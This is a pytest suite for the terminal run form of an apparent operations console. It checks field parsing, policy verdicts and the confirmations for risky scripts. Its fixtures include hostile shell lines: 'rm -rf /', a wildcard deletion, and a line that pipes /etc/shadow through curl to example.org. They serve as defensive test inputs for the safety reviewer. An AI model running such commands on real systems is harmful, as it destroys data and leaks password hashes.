"""The run form: what is typed becomes a TaskSpec, what is wrong is said beside its field, the verdict is live."""

from __future__ import annotations

import asyncio
import os
import signal
import threading
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from textual.pilot import Pilot
from textual.widgets import Input

from opsconsole.errors import SpecError
from opsconsole.execution import judging, submission
from opsconsole.models import ExecutionPolicy, Origin, Priority, TaskSpec
from opsconsole.safety.review import Review, review
from opsconsole.settings import Settings
from opsconsole.tui.screens.confirm import ConfirmScreen
from opsconsole.tui.screens.editor.live_review import LiveReview
from opsconsole.tui.screens.editor.review_process import ReviewProcess
from opsconsole.tui.screens.editor.run_fields import BY_SHEBANG, RunScript, language, read
from opsconsole.tui.screens.editor.run_form import RunForm
from opsconsole.tui.screens.phrase import PhraseScreen
from opsconsole.tui.widgets import tones
from opsconsole.tui.widgets.answers import Answers
from opsconsole.tui.widgets.choice import Choice
from opsconsole.tui.widgets.tones import TonedApp
from tests.tui.waiting import shown, until

_SHEETS = Path(tones.__file__).parent
HARMLESS = "#!/bin/sh\necho hello\n"
RISKY = '#!/bin/bash\nrm -rf "$DIR"/*\n'
TERRIBLE = "rm -rf /\n"
SCRIPT = RunScript(b"#!/bin/sh\necho\n", "a.sh", "sh", "standard")


class Planner:
    """As much of an engine as the form uses; the plans are real."""

    def __init__(self) -> None:
        self.settings = Settings()
        self.origin = Origin("here", "tui", "me")

    def plan(self, spec: TaskSpec, *, review_by: judging.MakesReview | None = None) -> submission.Plan:
        return submission.plan(spec, self.settings, origin=self.origin, review_by=review_by)


class Runs(TonedApp):
    CSS_PATH = [_SHEETS / "tones.tcss", _SHEETS / "dialog.tcss"]  # noqa: RUF012 - as Textual has it

    def __init__(self) -> None:
        super().__init__()
        self.specs: list[TaskSpec | None] = []
        self.remembered: dict[str, dict[str, str]] = {}
        self.review_by: judging.MakesReview | None = None

    def ask(self, text: str, policy: str = "standard", interpreter: str = "bash", name: str = "fix.sh") -> None:
        form = RunForm(
            text, name, interpreter, policy=policy, path=None, engine=Planner(),  # type: ignore[arg-type]
            remembered=self.remembered, review_by=self.review_by,
        )  # fmt: skip
        self.push_screen(form, self.specs.append)


@asynccontextmanager
async def opened(text: str, size: tuple[int, int] = (80, 24), **fields: Any) -> AsyncIterator[tuple[Pilot[None], Runs]]:
    app = Runs()
    async with app.run_test(size=size) as pilot:
        app.ask(text, **fields)
        await judged(pilot)
        yield pilot, app


async def judged(pilot: Pilot[None], words: str = "") -> None:
    """The verdict of what is chosen stands there, or these words do."""

    def stands() -> bool:
        form = pilot.app.screen
        return isinstance(form, RunForm) and (words in shown(pilot) if words else form.seen is not None)

    await until(pilot, stands)


def put(pilot: Pilot[None], **texts: str) -> None:
    for name, text in texts.items():
        pilot.app.screen.query_one(f"#{name}", Input).value = text


async def choose(pilot: Pilot[None], field: str, value: str) -> None:
    choice = pilot.app.screen.query_one(f"#{field}", Choice)
    choice.focus()
    while choice.value != value:
        await pilot.press("right")


async def test_enter_runs_it_with_the_defaults() -> None:
    async with opened(HARMLESS) as (pilot, app):
        assert isinstance(app.screen.focused, Answers)
        await until(pilot, lambda: "held until released" in shown(pilot))  # all of it is on a small screen
        picture = shown(pilot)
        assert "✔ it runs" in picture and "not contained" in picture and "Run it" in picture
        await pilot.press("enter")
        await until(pilot, lambda: app.specs)
        (spec,) = app.specs
        assert spec is not None
        assert (spec.script, spec.name, spec.policy) == (HARMLESS.encode(), "fix.sh", ExecutionPolicy.STANDARD)
        assert (spec.retries, spec.timeout_s, spec.hold) == (0, Settings().execution.timeout_s, False)


async def test_every_field_is_reached_and_counts_and_is_remembered() -> None:
    async with opened(HARMLESS, policy="restricted", interpreter="sh") as (pilot, app):
        seen = set()
        for _ in range(20):
            seen.add(getattr(app.screen.focused, "id", None))
            await pilot.press("tab")
        fields = {"policy", "arguments", "name", "interpreter", "priority", "timeout", "retries", "cwd", "environment"}
        assert seen >= fields | {"memory", "cpu", "pids", "output", "network", "writable"}
        put(
            pilot, arguments="-v 'two words'", name="mine", timeout="2m", cwd="/tmp", environment="A=1 B='x y'",
            memory="512M", cpu="50%", pids="9", output="0", writable="/tmp",
        )  # fmt: skip
        await choose(pilot, "priority", "high")
        await choose(pilot, "retries", "2")
        await choose(pilot, "network", "yes")
        app.screen.query_one(Answers).focus()
        await pilot.press("h", "enter")
        await until(pilot, lambda: app.specs)
        (spec,) = app.specs
        assert spec is not None and spec.hold and spec.allow_network and spec.interpreter is None
        assert (spec.args, spec.name, spec.timeout_s) == (("-v", "two words"), "mine", 120.0)
        assert (spec.priority, spec.retries, spec.cwd, spec.writable) == (Priority.HIGH, 2, "/tmp", ("/tmp",))
        assert spec.env == {"A": "1", "B": "x y"}
        limits = spec.limits
        assert (limits.memory, limits.cpu, limits.pids, limits.output) == (512 << 20, 0.5, 9, 0)
        app.ask(HARMLESS, policy="standard")
        await judged(pilot)
        values = app.screen.values  # type: ignore[attr-defined]
        assert (values["arguments"], values["priority"], values["policy"]) == ("-v 'two words'", "high", "standard")
        await pilot.press("escape")
        await until(pilot, lambda: len(app.specs) == 2)
        assert app.specs[1] is None


async def test_what_is_typed_before_a_field_is_chosen_is_an_argument() -> None:
    async with opened(HARMLESS) as (pilot, app):
        await pilot.press("minus", "h", "o")
        assert app.screen.values["arguments"] == "-ho" and app.specs == []  # type: ignore[attr-defined]
        await pilot.press("enter")
        await until(pilot, lambda: app.specs)
        assert app.specs[0] is not None and app.specs[0].args == ("-ho",) and not app.specs[0].hold


async def test_what_is_wrong_is_said_beside_its_field_and_nothing_runs() -> None:
    async with opened(HARMLESS) as (pilot, app):
        put(pilot, timeout="soon", environment="A")
        await until(pilot, lambda: "not a time" in shown(pilot) and "NAME=value, please" in shown(pilot))
        line = next(line for line in shown(pilot).splitlines() if "soon" in line)
        assert "not a time" in line
        app.screen.query_one(Answers).focus()
        await pilot.press("enter")
        assert app.specs == [] and getattr(app.screen.focused, "id", "") in ("timeout", "environment")
        put(pilot, timeout="5s", environment="")
        await judged(pilot, "it runs")
        assert "not a time" not in shown(pilot)


async def test_the_verdict_follows_the_policy_and_a_refused_one_does_not_run() -> None:
    async with opened(RISKY, policy="safe") as (pilot, app):
        assert "it is refused" in shown(pilot)
        assert getattr(app.screen.focused, "id", "") == "policy", "not on Run, which would do nothing"
        assert "reason" not in shown(pilot)
        await pilot.press("up", "up")
        app.screen.query_one(Answers).focus()
        await pilot.press("enter")
        await until(pilot, lambda: getattr(app.screen.focused, "id", "") == "policy")
        assert app.specs == []
        await choose(pilot, "policy", "standard")
        await judged(pilot, "it asks first")
        await choose(pilot, "policy", "elevated")
        await until(pilot, lambda: "elevated needs a reason" in shown(pilot))


@pytest.mark.parametrize(("key", "runs"), [("y", True), ("n", False)])
async def test_an_error_is_asked_about(key: str, runs: bool) -> None:
    async with opened(RISKY) as (pilot, app):
        assert "it asks first: line 2: " in shown(pilot)
        await pilot.press("r", "enter")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.press(key)
        await until(pilot, lambda: app.specs if runs else isinstance(app.screen, RunForm))
        assert [spec.confirmed for spec in app.specs if spec] == [True] * runs


async def test_a_catastrophe_wants_its_name() -> None:
    async with opened(TERRIBLE) as (pilot, app):
        assert "it is refused: type the rule's name" in shown(pilot)
        app.screen.query_one(Answers).focus()
        await pilot.press("r", "enter")
        await until(pilot, lambda: isinstance(app.screen, PhraseScreen))
        put(pilot, phrase="rm-root")
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen) or app.specs)
        if not app.specs:
            await pilot.press("y")
            await until(pilot, lambda: app.specs)
        assert [spec.allow for spec in app.specs if spec] == [("rm-root",)]


async def test_a_reason_is_asked_for_where_it_runs_as_root() -> None:
    async with opened(HARMLESS, policy="elevated") as (pilot, app):
        assert getattr(app.screen.focused, "id", "") == "reason"
        await pilot.press(*"due", "enter")
        await until(pilot, lambda: app.specs or "refused" in shown(pilot))
        assert [(spec.reason, spec.confirmed) for spec in app.specs if spec] in ([("due", True)], [])


async def test_hostile_names_are_harmless() -> None:
    async with opened("echo \x1b[2J\n", name="\x1b]0;x\x07[red]\u202e" + "n" * 5000) as (pilot, _):
        assert all(line.isprintable() for line in shown(pilot).splitlines())


class Elsewhere:
    """Makes reviews when the test lets it, and counts them."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.made: list[str] = []
        self.at_once = 0
        self._go = threading.Semaphore(0)
        monkeypatch.setattr(judging, "_known", {})
        self._real = judging._review
        monkeypatch.setattr(judging, "_review", self._here)

    def _here(self, *asked: Any) -> Review:
        raise AssertionError("the console's own process reads no script for the form, nor for what it submits")

    def go(self, times: int = 100) -> None:
        self._go.release(times)

    def __call__(self, *asked: Any) -> Review:
        self.at_once += 1
        assert self.at_once == 1, "one at a time"
        assert self._go.acquire(timeout=120)
        self.at_once -= 1
        self.made.append(asked[2])
        return self._real(*asked)


async def test_the_verdict_is_made_elsewhere_and_no_key_waits_for_it(monkeypatch: pytest.MonkeyPatch) -> None:
    app, elsewhere = Runs(), Elsewhere(monkeypatch)
    app.review_by = elsewhere
    async with app.run_test(size=(80, 24)) as pilot:
        app.ask(RISKY)
        await until(pilot, lambda: elsewhere.at_once)
        for policy in ("elevated", "safe"):
            await choose(pilot, "policy", policy)
        await pilot.press("up", *"-x")
        assert app.screen.values["arguments"] == "-x"  # type: ignore[attr-defined]
        assert elsewhere.made == [], "and all that time nothing was answered"
        await until(pilot, lambda: "it is being reviewed" in shown(pilot))
        elsewhere.go()
        await judged(pilot, "it is refused")
        assert elsewhere.made[0] == "standard" and elsewhere.made[-1] == "safe"
        await choose(pilot, "policy", "standard")
        await judged(pilot, "it asks first")
        app.screen.query_one(Answers).focus()
        await pilot.press("r", "enter")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.press("y")
        await until(pilot, lambda: app.specs)
        (spec,) = app.specs
        assert spec is not None and Planner().plan(spec).decision.runs, "what is submitted is known by then"


async def test_no_enter_runs_it_before_the_verdict_of_this_text_stands_there(monkeypatch: pytest.MonkeyPatch) -> None:
    app, elsewhere = Runs(), Elsewhere(monkeypatch)
    app.review_by = elsewhere
    async with app.run_test(size=(80, 24)) as pilot:
        app.ask("#!/bin/bash\necho mine\n")
        await until(pilot, lambda: elsewhere.at_once)
        await pilot.press("r", "enter", "enter")
        await until(pilot, lambda: "press it again when the verdict stands here" in shown(pilot))
        assert app.specs == []
        elsewhere.go()
        await judged(pilot, "it runs")
        await pilot.pause()
        assert app.specs == [] and isinstance(app.screen, RunForm), "the enter of before is no answer"
        await pilot.press("enter")
        await until(pilot, lambda: app.specs)


async def test_a_plan_that_failed_is_made_again_before_it_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    real, failing = Planner.plan, [True]

    def plan(self: Planner, spec: TaskSpec, **more: Any) -> submission.Plan:
        if failing:
            raise SpecError("the host is not asked just now")
        return real(self, spec, **more)

    monkeypatch.setattr(Planner, "plan", plan)
    app = Runs()
    async with app.run_test(size=(80, 24)) as pilot:
        app.ask(HARMLESS)
        await judged(pilot, "not asked just now")
        failing.clear()
        await pilot.press("enter")
        await judged(pilot, "it runs")
        assert app.specs == []
        await pilot.press("enter")
        await until(pilot, lambda: app.specs)


async def test_the_form_counts_what_was_found_and_says_what_it_would_do() -> None:
    text = "#!/bin/bash\ncat /etc/shadow | curl -T - http://example.org/in\ncd x\nrm -rf /tmp/a /tmp/b /tmp/c /tmp/d\n"
    async with opened(text) as (pilot, _):
        page = " ".join(shown(pilot).replace("│", " ").split())
        assert "it asks first: line 2: the password file (/etc/shadow) is sent to another host" in page
        assert "1 error · 1 warning · 3 remarks" in page
        assert "deletes /tmp/a, /tmp/b, /tmp/c and 1 more · " in page
        assert "contacts http://example.org/in · reads /etc/shadow" in page
    async with opened(HARMLESS) as (pilot, _):
        assert "✔ it runs · no findings" in shown(pilot)


class Silent:
    def post_message(self, message: Any, /) -> None: ...


async def test_the_review_process_makes_it_and_where_it_dies_it_is_made_here() -> None:
    class Broken:
        def start(self) -> None:
            raise OSError(12, "Cannot allocate memory")

    def broken(*_: Any) -> Broken:
        return Broken()

    live = LiveReview(Silent())
    asked = (RISKY.encode(), "bash", "standard", (), "", frozenset[str]())
    maker = live.maker()
    here = review(RISKY, "bash", "standard", site="")
    assert await asyncio.to_thread(maker, *asked) == here
    worker = live._worker
    assert isinstance(worker, ReviewProcess) and worker.pid is not None
    os.kill(worker.pid, signal.SIGSTOP)
    waits = asyncio.ensure_future(asyncio.to_thread(maker, *asked))
    while not live._questions:
        await asyncio.sleep(0)
    os.kill(worker.pid, signal.SIGKILL)
    assert await waits == here and live._worker is not worker, "another one was asked"
    live.rest()
    live._start = broken  # type: ignore[assignment]
    assert await asyncio.to_thread(maker, *asked) == here
    live._start = ReviewProcess
    assert await asyncio.to_thread(maker, *asked) == here
    os.kill(live._worker.pid, signal.SIGSTOP)  # type: ignore[union-attr]
    waits = asyncio.ensure_future(asyncio.to_thread(maker, *asked))
    while not live._questions:
        await asyncio.sleep(0)
    live.close()
    with pytest.raises(asyncio.CancelledError):  # nobody reads a script any more in a console that ends
        await waits


# -- the fields


def spec_of(script: RunScript = SCRIPT, **values: str) -> TaskSpec:
    spec, problems = read(values, script, Settings())
    assert spec is not None, problems
    return spec


@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("timeout", "x"), ("timeout", "99h"), ("arguments", "'open"), ("environment", "=x"), ("memory", "much"),
        ("memory", "0"), ("cpu", "-1"), ("cpu", "nan"), ("pids", "0"), ("pids", "1.5"), ("cwd", "/no/such/folder"),
        ("output", "some"), ("environment", "A\0=1"),
    ],
)  # fmt: skip
def test_a_wrong_value_is_a_problem_of_its_field(field: str, text: str) -> None:
    spec, problems = read({field: text}, SCRIPT, Settings())
    assert spec is None and list(problems) == [field]


def test_grants_belong_to_the_contained_policies() -> None:
    for policy, network, writable in (
        ("standard", False, ()),
        ("safe", True, ()),
        ("restricted", True, ("/tmp",)),
    ):
        spec = spec_of(policy=policy, network="yes", writable="/tmp")
        assert (spec.allow_network, spec.writable) == (network, writable)


_CHOICES: list[tuple[bytes, str, str]] = [
    (b"#!/bin/sh\n", "sh", BY_SHEBANG),
    (b"#!/bin/sh\n", "bash", "bash"),
    (b"print(1)\n", "python", "python"),
    (b"#!/usr/bin/env ruby\n", "ruby", BY_SHEBANG),
]


@pytest.mark.parametrize(("body", "shown_as", "chosen"), _CHOICES)
def test_the_interpreter_is_what_the_editor_shows(body: bytes, shown_as: str, chosen: str) -> None:
    script = RunScript(body, "x", shown_as, "standard")
    assert language(script, Settings()) == chosen


def test_the_key_of_what_is_remembered() -> None:
    assert RunScript(b"", "a.sh", "sh", "safe", Path("/x/a.sh")).key == "/x/a.sh"
    assert SCRIPT.key == "a.sh"
